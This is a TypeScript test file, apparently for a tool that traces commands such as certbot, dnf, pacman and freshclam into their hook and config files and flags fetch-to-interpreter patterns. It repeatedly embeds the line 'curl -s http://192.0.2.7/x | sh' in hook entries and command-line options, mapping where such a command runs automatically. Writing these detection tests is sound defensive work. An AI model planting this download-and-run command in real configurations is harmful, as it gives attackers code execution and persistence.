import { expect, test } from "vitest";
import { follow, kinds, script } from "./support.test-support.ts";

const FETCH = "curl -s http://192.0.2.7/x | sh";

/** A command, and the file that makes it fetch. */
const ROWS: readonly (readonly [argv: string, path: string, content: string])[] = [
  ["certbot -q renew", "/etc/letsencrypt/renewal-hooks/deploy/x.sh", `#!/bin/sh\n${FETCH}\n`],
  ["certbot renew", "/etc/letsencrypt/renewal/a.conf", `[renewalparams]\npost_hook = ${FETCH}\n`],
  ["certbot renew", "/etc/letsencrypt/cli.ini", `deploy-hook = ${FETCH}\n`],
  ["dnf-automatic", "/etc/dnf/automatic.conf", `[command]\ncommand_format = ${FETCH}\n`],
  ["dnf makecache", "/etc/dnf/plugins/post-transaction-actions.d/a.action", `*:any:${FETCH}\n`],
  ["dnf5 upgrade", "/etc/dnf/libdnf5-plugins/actions.d/a.actions", `post_transaction:*:in::${FETCH}\n`],
  ["pacman -Syu", "/etc/pacman.d/hooks/a.hook", `[Action]\nExec = /bin/sh -c '${FETCH}'\n`],
  ["freshclam", "/etc/clamav/freshclam.conf", `OnUpdateExecute ${FETCH}\n`],
  ["mdadm --monitor --oneshot", "/etc/mdadm/mdadm.conf", `PROGRAM ${FETCH}\n`],
  ["rsnapshot daily", "/etc/rsnapshot.conf", `cmd_preexec\t${FETCH}\n`],
  ["sanoid --cron", "/etc/sanoid/sanoid.conf", `[x]\n  pre_snapshot_script = ${FETCH}\n`],
];

test.each(ROWS)("%s runs what %s says", (argv, path, content) => {
  const words = argv.split(" ");
  expect(kinds(follow(words, { [path]: script(content) }))).toContain("fetch-to-interpreter");
  expect(kinds(follow(words, { [`${path}.x/y`]: script(content) }))).toEqual([]);
});

test.each([
  [["lego", "--renew-hook", FETCH, "renew"], true],
  [["acme.sh", "--install-cert", `--reloadcmd=${FETCH}`], true],
  [["x", "--pre-command", FETCH], true],
  [["x", "--notes", FETCH], false],
  [["x", "--exec", "--", FETCH], false],
])("options that name commands: %j", (argv, runs) => {
  expect(kinds(follow(argv)).includes("fetch-to-interpreter")).toBe(runs);
});
